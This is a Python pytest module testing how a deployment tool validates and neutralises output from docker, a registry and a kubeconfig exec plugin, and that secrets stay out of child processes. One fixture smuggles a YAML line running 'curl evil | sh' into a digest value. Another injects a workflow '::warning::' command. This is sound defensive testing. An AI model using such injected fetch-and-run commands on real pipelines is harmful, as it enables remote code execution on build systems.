"""Class 3 (and the outside-program routes of class 1): what docker, the registry and a kubeconfig
exec plugin answer is validated before use and neutralised when shown. A fake `docker` program
(a script per case) gives the answers; `Docker` runs it exactly as it runs the real CLI."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from deployer.docker import BuildRequest, Docker
from deployer.github import Reporter
from tests.hostile.support import (
    ENV_FILE,
    MARK,
    PAYLOADS,
    REGISTRY_PASSWORD,
    TOKEN,
    action_env,
    check,
    run_action,
    run_guarded,
    workspace,
)

GOOD = "sha256:" + "ab" * 32


def fake_docker(tmp_path: Path, stdout: str = "", stderr: str = "", code: int = 0) -> str:
    """A `docker` that answers every command with this text (and records its environment)."""
    script = tmp_path / "docker"
    script.write_text(
        "#!/usr/bin/env python3\n"
        "import json, os, sys\n"
        f"open({str(tmp_path / 'env.json')!r}, 'w').write(json.dumps(dict(os.environ)))\n"
        f"sys.stdout.write({stdout!r})\n"
        f"sys.stderr.write({stderr!r})\n"
        f"sys.exit({code})\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return str(script)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_daemon_version_is_shown_only_if_it_is_one(tmp_path: Path, payload: str) -> None:
    binary = fake_docker(tmp_path, json.dumps({"Server": {"Version": "29.1.0" + payload}}))

    def body(reporter: Reporter) -> int:
        reporter.line(f"Docker daemon {Docker(docker=binary, env=os.environ).check_daemon()}")
        return 0

    run = run_guarded(body)
    check(run, 0, None, "3 outside answers: docker version")
    assert "Docker daemon unknown" in run.log


BAD_DIGESTS = {
    "short": "sha256:abc",
    "upper case": "sha256:" + "AB" * 32,
    "65 hex digits": "sha256:" + "a" * 65,
    "another algorithm": "md5:" + "a" * 32,
    "YAML in it": GOOD + "\n        command: [sh, -c, 'curl evil | sh']",
    "a workflow command": GOOD + f"\n::warning::{MARK}",
    "a number": 12345,
    "a list": [GOOD],
    "empty": "",
}


@pytest.mark.parametrize("case", list(BAD_DIGESTS))
def test_a_digest_from_imagetools_is_used_only_if_it_is_one(tmp_path: Path, case: str) -> None:
    # `docker push` prints no digest line, so the digest is asked of `buildx imagetools inspect`.
    binary = fake_docker(tmp_path, json.dumps({"digest": BAD_DIGESTS[case]}))

    def body(reporter: Reporter) -> int:
        reporter.line(
            f"digest {Docker(docker=binary, env=os.environ).remote_digest('reg.example/app:1')}"
        )
        return 0

    run = run_guarded(body)
    check(run, 3, "registry", "3 outside answers: digests")


@pytest.mark.parametrize("case", ["short", "upper case", "YAML in it", "a number", "a list"])
def test_a_digest_from_manifest_inspect_is_used_only_if_it_is_one(
    tmp_path: Path, case: str
) -> None:
    # No buildx: `docker buildx version` fails, so `docker manifest inspect --verbose` answers.
    answer = json.dumps({"Descriptor": {"digest": BAD_DIGESTS[case]}})
    script = fake_docker(tmp_path, answer)
    text = (
        Path(script)
        .read_text()
        .replace(
            "import json, os, sys\n",
            "import json, os, sys\nif sys.argv[1] == 'buildx': sys.exit(1)\n",
        )
    )
    Path(script).write_text(text)

    def body(reporter: Reporter) -> int:
        reporter.line(
            f"digest {Docker(docker=script, env=os.environ).remote_digest('reg.example/app:1')}"
        )
        return 0

    run = run_guarded(body)
    check(run, 3, "registry", "3 outside answers: digests")


@pytest.mark.parametrize(
    ("push_line", "expected"),
    [
        (f"latest: digest: {GOOD} size: 1234", GOOD),
        (f"latest: digest: {GOOD}0 size: 1234", None),  # 65 digits: not taken as a digest
        (f"latest: digest: {GOOD[:-1]} size: 1234", None),
    ],
)
def test_a_digest_from_docker_push_is_taken_only_whole(
    tmp_path: Path, push_line: str, expected: str | None
) -> None:
    binary = fake_docker(tmp_path, push_line + "\n" + json.dumps({"digest": "sha256:short"}))

    def body(reporter: Reporter) -> int:
        with reporter.untrusted():
            digest = Docker(docker=binary, env=os.environ).push("reg.example/app:1", reporter.line)
        reporter.line(f"digest {digest}")
        return 0

    run = run_guarded(body)
    check(run, 0 if expected else 3, None if expected else "registry", "3 outside answers: digests")
    if expected:
        assert f"digest {expected}" in run.log


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_build_output_and_its_failure_line_stay_text(tmp_path: Path, payload: str) -> None:
    binary = fake_docker(tmp_path, f"Step 1/2 {payload}\nStep 2/2 {payload}\n", code=1)

    def body(reporter: Reporter) -> int:
        request = BuildRequest(
            ref="reg.example/app:1", context=tmp_path, dockerfile=tmp_path / "Dockerfile"
        )
        with reporter.untrusted():
            Docker(docker=binary, env=os.environ).build(request, reporter.line)
        return 0

    run = run_guarded(body)
    check(run, 2, "dockerfile", "1 injection: docker output", program_lines=True)


@pytest.mark.parametrize("payload", PAYLOADS[:6], ids=range(6))
def test_registry_answers_stay_text_and_never_show_the_password(
    tmp_path: Path, payload: str
) -> None:
    # A registry that echoes what it was sent, password included, and a command.
    binary = fake_docker(
        tmp_path, stderr=f"Error: denied for bot:{REGISTRY_PASSWORD} {payload}\n", code=1
    )

    def login(reporter: Reporter) -> int:
        reporter.mask(REGISTRY_PASSWORD)  # as settings does the moment it reads the input
        Docker(docker=binary, env=os.environ).login("reg.example", "bot", REGISTRY_PASSWORD)
        return 0

    check(run_guarded(login), 2, "registry-password", "3 outside answers: registry")

    def exists(reporter: Reporter) -> int:
        reporter.mask(REGISTRY_PASSWORD)
        Docker(docker=binary, env=os.environ).exists("reg.example/app:1")
        return 0

    check(run_guarded(exists), 2, "registry-password", "3 outside answers: registry")


def test_docker_children_get_no_input_token_or_password(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("INPUT_DIGITALOCEAN-TOKEN", TOKEN)
    monkeypatch.setenv("INPUT_SECRETS", ENV_FILE)
    monkeypatch.setenv("INPUT_REGISTRY-PASSWORD", REGISTRY_PASSWORD)
    monkeypatch.setenv("DIGITALOCEAN_ACCESS_TOKEN", TOKEN)
    monkeypatch.setenv("DOCKER_HOST", "unix:///var/run/docker.sock")
    binary = fake_docker(tmp_path, json.dumps({"Server": {"Version": "29.1.0"}}))
    Docker(docker=binary, env=os.environ).check_daemon()
    child = json.loads((tmp_path / "env.json").read_text())
    assert child["DOCKER_HOST"] == "unix:///var/run/docker.sock"
    assert child["DOCKER_CONFIG"].startswith(
        os.path.join(os.path.dirname(child["DOCKER_CONFIG"]), "djk-docker-config-")
    )
    assert not [k for k in child if k.startswith("INPUT_")]
    assert TOKEN not in json.dumps(child) and REGISTRY_PASSWORD not in json.dumps(child)


def plugin_kubeconfig(plugin: Path, server: str) -> str:
    return (
        "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
        f"clusters: [{{name: k, cluster: {{server: '{server}'}}}}]\n"
        "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
        "users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, "
        f"command: '{plugin}', interactiveMode: Never}}}}}}]\n"
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_kubeconfig_exec_plugin_gets_no_inputs_and_its_stderr_stays_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, digitalocean: str, payload: str
) -> None:
    plugin = tmp_path / "plugin"
    plugin.write_text(
        "#!/usr/bin/env python3\nimport json, os, sys\n"
        f"open({str(tmp_path / 'plugin-env.json')!r}, 'w').write(json.dumps(dict(os.environ)))\n"
        f"sys.stderr.write({('plugin failed: ' + payload)!r})\nsys.exit(1)\n"
    )
    plugin.chmod(0o755)
    ws = workspace(tmp_path)
    # The plugin fails; the client goes on without a token to a server that answers at once (404).
    kubeconfig = plugin_kubeconfig(plugin, digitalocean)
    env = action_env(ws, {"kubeconfig": kubeconfig, "digitalocean-token": "", "cluster": ""})
    for name, value in env.items():
        monkeypatch.setenv(name, value)  # the plugin inherits the process environment
    run = run_action(dict(os.environ))
    check(run, run.code or 1, None, "3 outside answers: exec plugin")
    assert run.code in (2, 3)
    # The plugin ran (its environment was written); whatever of its stderr is shown went through
    # the writer, as a debug line (or not at all when the phase's log was dropped).
    child = json.loads((tmp_path / "plugin-env.json").read_text())
    assert not [k for k in child if k.startswith("INPUT_")]
    assert TOKEN not in json.dumps(child)
